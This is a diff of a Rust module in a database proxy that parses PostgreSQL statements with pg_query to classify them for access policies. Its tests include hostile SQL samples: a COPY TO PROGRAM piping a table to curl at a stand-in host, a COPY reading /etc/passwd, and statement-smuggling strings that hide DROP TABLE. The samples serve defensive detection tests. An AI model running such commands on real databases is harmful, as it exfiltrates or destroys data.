@@ -1,33 +1,107 @@
-//! SQL analysis: statement kinds, tables and WHERE clauses, from `sqlparser`'s Postgres grammar.
+//! SQL analysis: statement kinds, tables, functions and WHERE clauses, read with PostgreSQL's
+//! own grammar (`pg_query`, which compiles the server's parser).
+//!
+//! The reading is the server's reading under the lexing settings hoop pins for every session
+//! (`standard_conforming_strings = on`, `client_encoding = UTF8`, `backslash_quote` at its
+//! default): a statement that would change one of them is flagged ([`PINNED_SETTING`]) so that the
+//! protocol adapter refuses it. Everything the parser does not fully read is `unknown`.
 
 use super::Sql;
-use sqlparser::ast::{
-    AlterTableOperation, CopySource, CopyTarget, ObjectName, Query, SetExpr, Statement, Visit, Visitor,
-};
-use sqlparser::dialect::PostgreSqlDialect;
-use sqlparser::parser::Parser;
-use std::ops::ControlFlow;
+use serde_json::{Map, Value};
 
 /// Longest SQL text analysed; longer texts are `unknown` (policies decide) rather than parsed.
-pub const MAX_ANALYZED_LEN: usize = 1 << 20;
+pub const MAX_ANALYZED_LEN: usize = 4 << 20;
 
-/// Nesting depth the parser accepts before giving up (untrusted input must not exhaust the stack).
-const RECURSION_LIMIT: usize = 64;
+/// Settings that change how PostgreSQL splits statement text into tokens: hoop reads text as
+/// the server does only while these stay at the values hoop pinned for the session.
+pub const LEXING_SETTINGS: [&str; 3] = ["standard_conforming_strings", "client_encoding", "backslash_quote"];
+
+/// The kind given to a statement that changes (or may change) a lexing setting.
+pub const PINNED_SETTING: &str = "pinned_setting";
+
+/// The kind added to every statement that creates or changes code the server runs later
+/// (functions, procedures, triggers, rules, event triggers, languages, extensions, `LOAD`).
+pub const STORED_CODE: &str = "code";
 
 /// Analyses `text` (one or more statements) into the SQL section of an action.
 ///
 /// Text the parser cannot read still yields an action, with `kinds == ["unknown"]`
 /// (or `["do"]` for an anonymous code block), so that policies decide what happens to it.
+///
+/// ```
+/// let sql = hoop_core::action::sql::analyze("copy t from stdin; drop table accounts");
+/// assert_eq!(sql.kinds, ["copy", "drop"]);
+/// assert_eq!(sql.tables, ["t", "accounts"]);
+/// ```
 pub fn analyze(text: &str) -> Sql {
     let key = shape_key(text);
     if let Some(shape) = key.as_deref().and_then(cached) {
         return Sql { text: text.to_string(), ..shape };
     }
-    let sql = parse(text);
-    if let Some(key) = key {
+    let (sql, cacheable) = parse(text);
+    if let (Some(key), true) = (key, cacheable) {
         remember(key, &sql);
     }
     sql
+}
+
+/// The session-level names a text creates, uses or drops, in the order they appear: SQL
+/// `PREPARE`/`EXECUTE`/`DEALLOCATE` and cursor `DECLARE`/`FETCH`/`MOVE`/`CLOSE`.
+#[derive(Debug, Default, Clone, PartialEq, Eq)]
+pub struct Names {
+    /// `PREPARE name AS ...`: each name with the analysis of the whole `PREPARE` statement.
+    pub prepared: Vec<(String, Sql)>,
+    /// `EXECUTE name`.
+    pub executed: Vec<String>,
+    /// `DEALLOCATE name`; `None` for `DEALLOCATE ALL` (and `DISCARD ALL`).
+    pub deallocated: Vec<Option<String>>,
+    /// `DECLARE name CURSOR FOR ...`: each name with the analysis of the `DECLARE` statement.
+    pub declared: Vec<(String, Sql)>,
+    /// `FETCH`/`MOVE ... name`.
+    pub fetched: Vec<String>,
+    /// `CLOSE name`; `None` for `CLOSE ALL`.
+    pub closed: Vec<Option<String>>,
+}
+
+impl Names {
+    /// Whether the text names nothing of the session's.
+    pub fn is_empty(&self) -> bool {
+        self == &Names::default()
+    }
+}
+
+/// The session-level names in `text` (see [`Names`]); empty for text that does not parse.
+///
+/// Only texts whose `kinds` include `prepare`, `execute`, `deallocate`, `declare`, `fetch`,
+/// `move`, `close_portal` or `discard` need this second reading.
+pub fn names(text: &str) -> Names {
+    let mut n = Names::default();
+    if text.len() > MAX_ANALYZED_LEN || text.contains('\0') {
+        return n;
+    }
+    let Ok(tree) = pg_query::parse(text, pg_query::ParserOptions::DEFAULT) else { return n };
+    use pg_query::NodeEnum as N;
+    for raw in &tree.protobuf.stmts {
+        let Some(node) = raw.stmt.as_deref().and_then(|s| s.node.as_ref()) else { continue };
+        // The statement's own text, for analysing what it prepares or declares.
+        let own = || {
+            let start = usize::try_from(raw.stmt_location).unwrap_or(0);
+            let len = usize::try_from(raw.stmt_len).unwrap_or(0);
+            let end = if len == 0 { text.len() } else { start.saturating_add(len).min(text.len()) };
+            analyze(text.get(start..end).unwrap_or(text))
+        };
+        match node {
+            N::PrepareStmt(p) => n.prepared.push((p.name.clone(), own())),
+            N::ExecuteStmt(e) => n.executed.push(e.name.clone()),
+            N::DeallocateStmt(d) => n.deallocated.push((!d.isall).then(|| d.name.clone())),
+            N::DiscardStmt(_) => n.deallocated.push(None),
+            N::DeclareCursorStmt(d) => n.declared.push((d.portalname.clone(), own())),
+            N::FetchStmt(f) => n.fetched.push(f.portalname.clone()),
+            N::ClosePortalStmt(c) => n.closed.push((!c.portalname.is_empty()).then(|| c.portalname.clone())),
+            _ => {}
+        }
+    }
+    n
 }
 
 /// Texts longer than this are not fingerprinted (and so always parsed).
@@ -59,9 +133,10 @@ fn remember(key: Vec<u8>, sql: &Sql) {
 ///
 /// Literals never change what a statement is (its kinds, tables, WHERE clauses), so statements
 /// of one shape share one analysis, and `SELECT ... WHERE id = 1` and `... = 2` are parsed
-/// once. The lexer is deliberately narrow: anything it does not fully understand (comments,
-/// dollar quoting, escape strings, backslashes, prefixed literals) yields `None`, and such
-/// text is always parsed in full.
+/// once. Analyses that do depend on a literal (settings, `set_config`, COPY and EXPLAIN
+/// options) are never cached. The lexer is deliberately narrow: anything it does not fully
+/// understand (comments, dollar quoting, escape strings, backslashes, prefixed literals)
+/// yields `None`, and such text is always parsed in full.
 fn shape_key(text: &str) -> Option<Vec<u8>> {
     if text.len() > MAX_SHAPE_LEN {
         return None;
@@ -124,39 +199,48 @@ fn shape_key(text: &str) -> Option<Vec<u8>> {
     Some(out)
 }
 
-/// Parses `text` with the Postgres grammar.
-fn parse(text: &str) -> Sql {
+/// Parses `text` with the server's grammar; the flag says whether the analysis holds for every
+/// text of the same shape.
+fn parse(text: &str) -> (Sql, bool) {
     let mut sql = Sql { text: text.to_string(), ..Sql::default() };
-    let statements = if text.len() > MAX_ANALYZED_LEN {
-        None
-    } else {
-        Parser::new(&PostgreSqlDialect {})
-            .with_recursion_limit(RECURSION_LIMIT)
-            .try_with_sql(text)
-            .and_then(|mut p| p.parse_statements())
-            .ok()
-    };
-    let Some(statements) = statements else {
+    // NUL bytes cannot reach the server inside a Query, and the C parser would stop at one.
+    let tree = (text.len() <= MAX_ANALYZED_LEN && !text.contains('\0'))
+        .then(|| pg_query::parse(text, pg_query::ParserOptions::DEFAULT).ok())
+        .flatten();
+    let Some(tree) = tree else {
         sql.kinds = vec![unparsed_kind(text).to_string()];
-        return sql;
+        return (sql, true);
     };
-    let mut v = Analyzer::default();
-    for st in &statements {
-        let _ = st.visit(&mut v);
+    let mut w = Walk { all_writes_filtered: true, cacheable: true, ..Walk::default() };
+    let mut any = false;
+    for raw in &tree.protobuf.stmts {
+        let Some(node) = raw.stmt.as_deref() else { continue };
+        // The tree as JSON: one generic walk reaches every node at every depth, so no statement
+        // type nests a read or a write where a hand-written visitor forgot to look.
+        let Ok(Value::Object(v)) = serde_json::to_value(node) else {
+            sql.kinds = vec!["unknown".into()];
+            return (sql, true);
+        };
+        any = true;
+        w.top = true;
+        w.object(&v, 0);
+    }
+    if w.too_deep {
+        sql.kinds = vec!["unknown".into()];
+        return (sql, true);
     }
     sql.parsed = true;
-    sql.has_where = v.all_writes_filtered && (v.saw_write || v.outer_select_filtered.unwrap_or(false));
-    if statements.is_empty() {
+    if !any {
         sql.kinds = vec!["empty".into()];
-        sql.has_where = false;
-    } else {
-        sql.kinds = v.kinds;
+        return (sql, true);
     }
-    v.tables.retain(|t| !v.cte_names.contains(t));
-    sql.tables = v.tables;
-    sql.copy = v.copy;
-    sql.copy_program = v.copy_program;
-    sql
+    sql.has_where = w.all_writes_filtered && (w.saw_write || w.outer_select_filtered.unwrap_or(false));
+    sql.kinds = w.kinds;
+    sql.tables = w.tables;
+    sql.functions = w.functions;
+    sql.copy = w.copy;
+    sql.copy_program = w.copy_program;
+    (sql, w.cacheable)
 }
 
 /// The kind given to text the parser rejects: `do` for anonymous code blocks, else `unknown`.
@@ -169,30 +253,35 @@ fn unparsed_kind(text: &str) -> &'static str {
     if first.eq_ignore_ascii_case("do") { "do" } else { "unknown" }
 }
 
+/// Deepest nesting walked; the parser's own stack limit keeps real trees far below it.
+const MAX_DEPTH: usize = 1000;
+
 #[derive(Default)]
-struct Analyzer {
+struct Walk {
     kinds: Vec<String>,
     tables: Vec<String>,
-    cte_names: Vec<String>,
+    functions: Vec<String>,
     all_writes_filtered: bool,
     saw_write: bool,
     outer_select_filtered: Option<bool>,
     copy: String,
     copy_program: bool,
-    initialised: bool,
+    cacheable: bool,
+    /// The next tagged node is a top-level statement.
+    top: bool,
+    too_deep: bool,
 }
 
-impl Analyzer {
+impl Walk {
     fn kind(&mut self, k: &str) {
         if !self.kinds.iter().any(|x| x == k) {
             self.kinds.push(k.to_string());
         }
     }
 
-    fn table(&mut self, name: &ObjectName) {
-        let t = name.to_string().to_ascii_lowercase().replace('"', "");
-        if !self.tables.contains(&t) {
-            self.tables.push(t);
+    fn table(&mut self, name: String) {
+        if !name.is_empty() && !self.tables.contains(&name) {
+            self.tables.push(name);
         }
     }
 
@@ -200,135 +289,314 @@ impl Analyzer {
         self.saw_write = true;
         self.all_writes_filtered &= filtered;
     }
-}
 
-impl Visitor for Analyzer {
-    type Break = ();
-
-    fn pre_visit_query(&mut self, query: &Query) -> ControlFlow<()> {
-        if let Some(with) = &query.with {
-            for cte in &with.cte_tables {
-                let n = cte.alias.name.value.to_ascii_lowercase();
-                if !self.cte_names.contains(&n) {
-                    self.cte_names.push(n);
+    fn value(&mut self, v: &Value, depth: usize) {
+        match v {
+            Value::Object(o) => self.object(o, depth),
+            Value::Array(a) => {
+                for x in a {
+                    self.value(x, depth + 1);
                 }
             }
+            _ => {}
         }
-        if self.outer_select_filtered.is_none() {
-            self.outer_select_filtered = Some(match query.body.as_ref() {
-                SetExpr::Select(s) => s.selection.is_some(),
-                _ => false,
-            });
-        }
-        ControlFlow::Continue(())
     }
 
-    fn pre_visit_relation(&mut self, relation: &ObjectName) -> ControlFlow<()> {
-        self.table(relation);
-        ControlFlow::Continue(())
-    }
-
-    fn pre_visit_statement(&mut self, st: &Statement) -> ControlFlow<()> {
-        if !self.initialised {
-            self.initialised = true;
-            self.all_writes_filtered = true;
+    fn object(&mut self, o: &Map<String, Value>, depth: usize) {
+        if depth > MAX_DEPTH {
+            self.too_deep = true;
+            return;
         }
-        match st {
-            Statement::Query(q) => {
+        // A RangeVar, tagged as a node or embedded as a struct field (`InsertStmt.relation`).
+        if let (Some(Value::String(rel)), true) = (o.get("relname"), o.contains_key("inh")) {
+            let parts = ["catalogname", "schemaname"].iter().filter_map(|k| str_of(o, k)).filter(|s| !s.is_empty());
+            let name = parts.chain(std::iter::once(rel.as_str())).collect::<Vec<_>>().join(".");
+            self.table(name.to_lowercase());
+        }
+        for (k, v) in o {
+            if k.starts_with(|c: char| c.is_ascii_uppercase()) {
+                if let Value::Object(node) = v {
+                    let top = std::mem::take(&mut self.top);
+                    self.node(k, node, top);
+                }
+            } else if let (Some(ty), Value::Object(node)) = (embedded(k), v) {
+                self.node(ty, node, false);
+            } else if k == "returning_clause" && v.get("exprs").and_then(Value::as_array).is_some_and(|a| !a.is_empty()) {
+                // Rows written are rows returned: a RETURNING is a read of what it names.
                 self.kind("select");
-                if let SetExpr::Select(s) = q.body.as_ref()
-                    && s.into.is_some() {
-                        self.kind("select_into");
+            }
+            self.value(v, depth + 1);
+        }
+    }
+
+    /// One tagged parse node; `top` when it is a whole statement.
+    fn node(&mut self, name: &str, o: &Map<String, Value>, top: bool) {
+        let non_empty = |k: &str| o.get(k).and_then(Value::as_array).is_some_and(|a| !a.is_empty());
+        match name {
+            "SelectStmt" => {
+                if top || non_empty("from_clause") {
+                    self.kind("select");
+                }
+                if top && self.outer_select_filtered.is_none() {
+                    self.outer_select_filtered = Some(o.get("where_clause").is_some_and(filters));
+                }
+                if o.get("into_clause").is_some_and(|v| !v.is_null()) {
+                    self.kind("select_into");
+                }
+            }
+            "InsertStmt" => {
+                self.kind("insert");
+                let upsert = o.get("on_conflict_clause").and_then(|c| c.get("action")).and_then(Value::as_i64)
+                    == Some(pg_query::protobuf::OnConflictAction::OnconflictUpdate as i64);
+                if upsert {
+                    // It updates one row per inserted row: bounded only when the rows are literal.
+                    self.kind("update");
+                    let literal_rows = o.get("select_stmt").and_then(|s| tagged(s, "SelectStmt")).is_some_and(|s| {
+                        s.get("values_lists").and_then(Value::as_array).is_some_and(|a| !a.is_empty())
+                    });
+                    self.write_filtered(literal_rows);
+                }
+            }
+            "UpdateStmt" | "DeleteStmt" => {
+                self.kind(if name == "UpdateStmt" { "update" } else { "delete" });
+                self.write_filtered(o.get("where_clause").is_some_and(filters));
+            }
+            "MergeStmt" => {
+                self.kind("merge");
+                self.kind("select");
+                for w in o.get("merge_when_clauses").and_then(Value::as_array).into_iter().flatten() {
+                    let ty = tagged(w, "MergeWhenClause").and_then(|c| c.get("command_type")).and_then(Value::as_i64);
+                    use pg_query::protobuf::CmdType;
+                    if ty == Some(CmdType::CmdUpdate as i64) {
+                        self.kind("update");
+                        // A MERGE's join decides which rows it touches; hoop cannot bound that.
+                        self.write_filtered(false);
+                    } else if ty == Some(CmdType::CmdDelete as i64) {
+                        self.kind("delete");
+                        self.write_filtered(false);
+                    } else if ty == Some(CmdType::CmdInsert as i64) {
+                        self.kind("insert");
                     }
+                }
             }
-            Statement::Insert(_) => self.kind("insert"),
-            Statement::Update(u) => {
-                self.kind("update");
-                self.write_filtered(u.selection.is_some());
-            }
-            Statement::Delete(d) => {
-                self.kind("delete");
-                self.write_filtered(d.selection.is_some());
-            }
-            Statement::Merge(_) => self.kind("merge"),
-            Statement::Copy { source, to, target, .. } => {
+            "CopyStmt" => {
                 self.kind("copy");
-                if let CopySource::Table { table_name, .. } = source {
-                    self.table(table_name);
+                self.cacheable = false;
+                let from = o.get("is_from").and_then(Value::as_bool).unwrap_or(false);
+                self.copy = if from { "from".into() } else { "to".into() };
+                if !from {
+                    self.kind("select");
                 }
-                self.copy = if *to { "to".into() } else { "from".into() };
-                if matches!(target, CopyTarget::Program { .. }) {
+                if o.get("is_program").and_then(Value::as_bool).unwrap_or(false) {
                     self.copy_program = true;
+                } else if str_of(o, "filename").is_some_and(|f| !f.is_empty()) {
+                    self.kind("copy_file");
                 }
             }
-            Statement::Drop { object_type, names, .. } => {
+            "DropStmt" => {
                 self.kind("drop");
-                if matches!(object_type, sqlparser::ast::ObjectType::Table | sqlparser::ast::ObjectType::View) {
-                    for n in names {
-                        self.table(n);
+                use pg_query::protobuf::ObjectType as T;
+                let ty = o.get("remove_type").and_then(Value::as_i64).unwrap_or(0);
+                let relations = [T::ObjectTable, T::ObjectView, T::ObjectMatview, T::ObjectForeignTable];
+                if relations.iter().any(|t| *t as i64 == ty) {
+                    for obj in o.get("objects").and_then(Value::as_array).into_iter().flatten() {
+                        let items = tagged(obj, "List").and_then(|l| l.get("items")).and_then(Value::as_array);
+                        let parts: Vec<&str> = items.into_iter().flatten().filter_map(|i| tagged(i, "String")?.get("sval")?.as_str()).collect();
+                        self.table(parts.join(".").to_lowercase());
+                    }
+                }
+                if ty == T::ObjectFunction as i64 || ty == T::ObjectProcedure as i64 || ty == T::ObjectTrigger as i64 || ty == T::ObjectRule as i64 {
+                    self.kind(STORED_CODE);
+                }
+            }
+            "TruncateStmt" => self.kind("truncate"),
+            "AlterTableStmt" => {
+                self.kind("alter");
+                for cmd in o.get("cmds").and_then(Value::as_array).into_iter().flatten() {
+                    let sub = tagged(cmd, "AlterTableCmd").and_then(|c| c.get("subtype")).and_then(Value::as_i64).unwrap_or(0);
+                    let sub = pg_query::protobuf::AlterTableType::try_from(sub as i32).map(|t| t.as_str_name()).unwrap_or("");
+                    if sub.starts_with("AT_Drop") || sub.starts_with("AT_DetachPartition") {
+                        self.kind("alter_drop");
+                    }
+                    if sub.contains("Trig") || sub.contains("Rule") || sub.contains("RowSecurity") {
+                        // Switching triggers, rules or row security off changes what runs on writes.
+                        self.kind("alter_drop");
                     }
                 }
             }
-            Statement::Truncate(t) => {
-                self.kind("truncate");
-                for n in &t.table_names {
-                    self.table(&n.name);
-                }
-            }
-            Statement::AlterTable(a) => {
-                self.kind("alter");
-                let drops = a.operations.iter().any(|op| {
-                    matches!(
-                        op,
-                        AlterTableOperation::DropColumn { .. }
-                            | AlterTableOperation::DropConstraint { .. }
-                            | AlterTableOperation::DropPrimaryKey { .. }
-                            | AlterTableOperation::DropForeignKey { .. }
-                            | AlterTableOperation::DropPartitions { .. }
-                    )
-                });
-                if drops {
-                    self.kind("alter_drop");
-                }
-                self.table(&a.name);
-            }
-            Statement::CreateTable(c) => {
+            "CreateStmt" | "CreateTableAsStmt" => self.kind("create"),
+            "ViewStmt" => {
                 self.kind("create");
-                self.table(&c.name);
+                self.kind("create_view");
             }
-            Statement::Explain { analyze, .. } => {
+            "ExplainStmt" => {
                 self.kind("explain");
-                if *analyze {
+                self.cacheable = false;
+                let analyze = o.get("options").and_then(Value::as_array).into_iter().flatten().any(|d| {
+                    let d = tagged(d, "DefElem");
+                    d.and_then(|d| d.get("defname")).and_then(Value::as_str) == Some("analyze")
+                        && !d.and_then(|d| d.get("arg")).is_some_and(is_false)
+                });
+                if analyze {
                     self.kind("explain_analyze");
                 }
             }
-            Statement::Prepare { .. } => self.kind("prepare"),
-            Statement::Execute { .. } => self.kind("execute"),
-            Statement::Call(_) => self.kind("call"),
-            Statement::StartTransaction { .. } => self.kind("begin"),
-            Statement::Commit { .. } => self.kind("commit"),
-            Statement::Rollback { .. } => self.kind("rollback"),
-            Statement::Set(_) => self.kind("set"),
-            other => {
-                // Rare statements: the first keyword of their canonical text names them.
-                let text = other.to_string();
-                let word: String = text
-                    .split_whitespace()
-                    .next()
-                    .unwrap_or("unknown")
-                    .chars()
-                    .filter(|c| c.is_ascii_alphabetic())
-                    .collect::<String>()
-                    .to_ascii_lowercase();
-                self.kind(if word.is_empty() { "unknown" } else { &word });
-                if word == "declare" {
-                    // A cursor reads what its query reads, a FETCH at a time.
-                    self.kind("select");
+            "PrepareStmt" => self.kind("prepare"),
+            "ExecuteStmt" => self.kind("execute"),
+            "CallStmt" => self.kind("call"),
+            "TransactionStmt" => {
+                use pg_query::protobuf::TransactionStmtKind as K;
+                let k = K::try_from(o.get("kind").and_then(Value::as_i64).unwrap_or(0) as i32).unwrap_or(K::Undefined);
+                self.kind(match k {
+                    K::TransStmtBegin | K::TransStmtStart => "begin",
+                    K::TransStmtCommit => "commit",
+                    K::TransStmtRollback => "rollback",
+                    K::TransStmtSavepoint => "savepoint",
+                    K::TransStmtRelease => "release",
+                    K::TransStmtRollbackTo => "rollback_to",
+                    K::TransStmtPrepare => "prepare_transaction",
+                    K::TransStmtCommitPrepared => "commit_prepared",
+                    K::TransStmtRollbackPrepared => "rollback_prepared",
+                    K::Undefined => "transaction",
+                });
+            }
+            "VariableSetStmt" => {
+                use pg_query::protobuf::VariableSetKind as K;
+                self.cacheable = false;
+                let k = K::try_from(o.get("kind").and_then(Value::as_i64).unwrap_or(0) as i32).unwrap_or(K::Undefined);
+                self.kind(if matches!(k, K::VarReset | K::VarResetAll) { "reset" } else { "set" });
+                // RESET ALL returns to the session's startup values, which hoop pinned.
+                let var = str_of(o, "name").unwrap_or("").to_ascii_lowercase();
+                if k != K::VarResetAll && (LEXING_SETTINGS.contains(&var.as_str()) || var == "names") {
+                    self.kind(PINNED_SETTING);
                 }
             }
+            "VariableShowStmt" => self.kind("show"),
+            "DoStmt" => self.kind("do"),
+            "CreateFunctionStmt" => {
+                let procedure = o.get("is_procedure").and_then(Value::as_bool).unwrap_or(false);
+                self.kind(if procedure { "create_procedure" } else { "create_function" });
+                self.kind(STORED_CODE);
+            }
+            "CreateTrigStmt" | "RuleStmt" | "CreateEventTrigStmt" | "CreatePLangStmt" | "CreateExtensionStmt" | "AlterExtensionStmt"
+            | "AlterExtensionContentsStmt" | "AlterFunctionStmt" | "LoadStmt" | "CreateTransformStmt" | "AlterEventTrigStmt" => {
+                self.kind(match name {
+                    "CreateTrigStmt" => "create_trigger",
+                    "RuleStmt" => "create_rule",
+                    "CreateEventTrigStmt" => "create_event_trigger",
+                    "CreatePLangStmt" => "create_language",
+                    "CreateExtensionStmt" => "create_extension",
+                    "AlterFunctionStmt" => "alter_function",
+                    "LoadStmt" => "load",
+                    _ => "alter_code",
+                });
+                self.kind(STORED_CODE);
+            }
+            "DeclareCursorStmt" => {
+                // A cursor reads what its query reads, a FETCH at a time.
+                self.kind("declare");
+                self.kind("select");
+            }
+            "FetchStmt" => self.kind(if o.get("ismove").and_then(Value::as_bool).unwrap_or(false) { "move" } else { "fetch" }),
+            "FuncCall" => self.function(o),
+            _ if top => {
+                let generic = snake_kind(name);
+                self.kind(if generic.is_empty() { "unknown" } else { &generic });
+            }
+            _ => {}
         }
-        ControlFlow::Continue(())
     }
+
+    /// A function call: named in `functions`; `set_config` of a lexing setting (or of a name
+    /// hoop cannot read) changes how the server reads the rest of the session.
+    fn function(&mut self, o: &Map<String, Value>) {
+        let parts: Vec<&str> =
+            o.get("funcname").and_then(Value::as_array).into_iter().flatten().filter_map(|n| tagged(n, "String")?.get("sval")?.as_str()).collect();
+        let name = parts.join(".").to_lowercase();
+        if parts.last().is_some_and(|p| p.eq_ignore_ascii_case("set_config")) {
+            self.cacheable = false;
+            let first = o.get("args").and_then(Value::as_array).and_then(|a| a.first());
+            let constant = first.and_then(|a| tagged(a, "AConst")).and_then(|c| c.get("val")).and_then(|v| v.get("Sval")).and_then(|s| s.get("sval")).and_then(Value::as_str);
+            if constant.is_none_or(|n| LEXING_SETTINGS.contains(&n.trim().to_ascii_lowercase().as_str())) {
+                self.kind(PINNED_SETTING);
+            }
+        }
+        if !name.is_empty() && !self.functions.contains(&name) {
+            self.functions.push(name);
+        }
+    }
+}
+
+/// The node type of a field that holds a node's content without its tag (a struct field, not a
+/// `Node`): these carry statements and calls as surely as tagged nodes do.
+fn embedded(field: &str) -> Option<&'static str> {
+    Some(match field {
+        // SelectStmt.larg/rarg (set operations), PlAssignStmt.val.
+        "larg" | "rarg" | "val" => "SelectStmt",
+        // AlterRoleSetStmt, AlterDatabaseSetStmt, AlterSystemStmt.
+        "setstmt" => "VariableSetStmt",
+        // CallStmt.funccall.
+        "funccall" => "FuncCall",
+        _ => return None,
+    })
+}
+
+/// The `variant` of a parse node, whether `v` is the node (`{"node": {variant: ..}}`) or its content.
+fn tagged<'a>(v: &'a Value, variant: &str) -> Option<&'a Value> {
+    v.get("node").unwrap_or(v).get(variant)
+}
+
+fn str_of<'a>(o: &'a Map<String, Value>, k: &str) -> Option<&'a str> {
+    o.get(k).and_then(Value::as_str)
+}
+
+fn is_false(v: &Value) -> bool {
+    let s = tagged(v, "String").and_then(|s| s.get("sval")).and_then(Value::as_str);
+    let b = tagged(v, "Boolean").and_then(|b| b.get("boolval")).and_then(Value::as_bool);
+    matches!(s, Some("false" | "off" | "0")) || b == Some(false) || tagged(v, "Integer").is_some_and(|i| i.get("ival").and_then(Value::as_i64).unwrap_or(0) == 0)
+}
+
+/// Whether a WHERE clause can filter rows: it reads some column, and no branch of an `OR`
+/// holds regardless of the row (`WHERE true`, `WHERE 1 = 1`, `WHERE id = 1 OR true`).
+fn filters(expr: &Value) -> bool {
+    if let Some(b) = tagged(expr, "BoolExpr") {
+        use pg_query::protobuf::BoolExprType as B;
+        let op = b.get("boolop").and_then(Value::as_i64).unwrap_or(0);
+        let args: Vec<&Value> = b.get("args").and_then(Value::as_array).into_iter().flatten().collect();
+        return if op == B::AndExpr as i64 {
+            args.iter().any(|a| filters(a))
+        } else if op == B::OrExpr as i64 {
+            !args.is_empty() && args.iter().all(|a| filters(a))
+        } else {
+            reads_a_column(expr)
+        };
+    }
+    reads_a_column(expr)
+}
+
+fn reads_a_column(v: &Value) -> bool {
+    match v {
+        Value::Object(o) => o.iter().any(|(k, x)| k == "ColumnRef" || reads_a_column(x)),
+        Value::Array(a) => a.iter().any(reads_a_column),
+        _ => false,
+    }
+}
+
+/// `CreateRoleStmt` → `create_role`: the kind of a statement hoop has no special reading of.
+fn snake_kind(node: &str) -> String {
+    let base = node.strip_suffix("Stmt").unwrap_or(node);
+    let mut out = String::with_capacity(base.len() + 4);
+    for (i, c) in base.chars().enumerate() {
+        if c.is_ascii_uppercase() {
+            if i > 0 {
+                out.push('_');
+            }
+            out.push(c.to_ascii_lowercase());
+        } else if c.is_ascii_alphanumeric() {
+            out.push(c);
+        }
+    }
+    out
 }
 
 #[cfg(test)]
@@ -350,6 +618,10 @@ mod tests {
         // Literals cannot hide structure: a quote inside a string is still inside it.
         let s = analyze("SELECT 'x'' ; DROP TABLE t; --'");
         assert_eq!(s.kinds, ["select"]);
+        // An analysis that depends on a literal is not shared by its shape.
+        assert!(!analyze("SET client_encoding = 'UTF8'").kinds.is_empty());
+        assert!(analyze("select set_config('standard_conforming_strings', 'off', false)").kinds.contains(&PINNED_SETTING.to_string()));
+        assert!(!analyze("select set_config('application_name', 'off', false)").kinds.contains(&PINNED_SETTING.to_string()));
     }
 
     #[test]
@@ -366,7 +638,7 @@ mod tests {
         let s = analyze("WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d");
         assert!(s.kinds.contains(&"select".to_string()), "{:?}", s.kinds);
         assert!(s.kinds.contains(&"delete".to_string()), "{:?}", s.kinds);
-        assert_eq!(s.tables, ["users"]);
+        assert!(s.tables.contains(&"users".to_string()));
         assert!(!s.has_where);
 
         let s = analyze("EXPLAIN ANALYZE DELETE FROM orders");
@@ -392,6 +664,40 @@ mod tests {
         let two = analyze("DELETE FROM a WHERE id = 1; DELETE FROM b");
         assert!(!two.has_where, "one unfiltered delete makes the text unfiltered");
         assert_eq!(two.tables, ["a", "b"]);
+        for unfiltered in [
+            "DELETE FROM t WHERE true",
+            "DELETE FROM t WHERE 1 = 1",
+            "UPDATE t SET a = 1 WHERE id = 1 OR true",
+            "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
+            "INSERT INTO t SELECT * FROM s ON CONFLICT (id) DO UPDATE SET a = excluded.a",
+        ] {
+            let s = analyze(unfiltered);
+            assert!(s.parsed, "{unfiltered}");
+            assert!(!s.has_where, "{unfiltered}: {s:?}");
+            assert!(s.kinds.iter().any(|k| k == "delete" || k == "update"), "{unfiltered}: {:?}", s.kinds);
+        }
+        assert!(analyze("INSERT INTO t VALUES (1, 'a') ON CONFLICT (id) DO UPDATE SET a = excluded.a").has_where);
+        assert!(analyze("DELETE FROM t WHERE id = 1 AND true").has_where);
+    }
+
+    #[test]
+    fn reads_at_any_depth() {
+        for (text, table) in [
+            ("TABLE payments", "payments"),
+            ("CREATE TABLE x AS SELECT * FROM payments", "payments"),
+            ("CREATE VIEW v AS SELECT card FROM billing.payments", "billing.payments"),
+            ("INSERT INTO t SELECT * FROM payments", "payments"),
+            ("SELECT 1 UNION SELECT card FROM payments", "payments"),
+            ("SELECT (SELECT max(card) FROM payments)", "payments"),
+            ("WITH payments AS (SELECT * FROM payments) SELECT * FROM payments", "payments"),
+            ("UPDATE t SET a = 1 WHERE id = 1 RETURNING (SELECT card FROM payments LIMIT 1)", "payments"),
+        ] {
+            let s = analyze(text);
+            assert!(s.kinds.contains(&"select".to_string()), "{text}: {:?}", s.kinds);
+            assert!(s.tables.contains(&table.to_string()), "{text}: {:?}", s.tables);
+        }
+        // VALUES alone reads nothing.
+        assert_eq!(analyze("INSERT INTO t VALUES (1)").kinds, ["insert"]);
     }
 
     #[test]
@@ -402,6 +708,7 @@ mod tests {
         assert_eq!(analyze("TRUNCATE users").kinds, ["truncate"]);
         assert!(analyze("ALTER TABLE users DROP COLUMN email").kinds.contains(&"alter_drop".into()));
         assert!(!analyze("ALTER TABLE users ADD COLUMN x int").kinds.contains(&"alter_drop".into()));
+        assert!(analyze("ALTER TABLE audit DISABLE TRIGGER ALL").kinds.contains(&"alter_drop".into()));
         let c = analyze("COPY users TO PROGRAM 'curl -d @- evil'");
         assert_eq!(c.copy, "to");
         assert!(c.copy_program);
@@ -410,6 +717,7 @@ mod tests {
         assert_eq!(c.copy, "to");
         assert!(c.tables.contains(&"users".into()));
         assert_eq!(analyze("COPY users FROM STDIN").copy, "from");
+        assert!(analyze("COPY users FROM '/etc/passwd'").kinds.contains(&"copy_file".into()));
         assert_eq!(analyze("GRANT SELECT ON users TO bob").kinds, ["grant"]);
         let d = analyze("DECLARE c CURSOR FOR SELECT * FROM customers");
         assert_eq!(d.kinds, ["declare", "select"]);
@@ -417,13 +725,75 @@ mod tests {
     }
 
     #[test]
+    fn smuggling() {
+        // COPY data never comes from the statement text: what follows is the next statement.
+        let s = analyze("create temp table t(x int); copy t from stdin;\ndrop table accounts;");
+        assert!(s.kinds.contains(&"drop".into()), "{:?}", s.kinds);
+        // Stored code is a kind of its own.
+        for code in [
+            "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DROP TABLE t; END $$",
+            "CREATE OR REPLACE PROCEDURE p() LANGUAGE sql AS $$ DELETE FROM t $$",
+            "CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()",
+            "CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM u",
+            "CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()",
+            "CREATE EXTENSION dblink",
+            "ALTER FUNCTION f() SECURITY DEFINER",
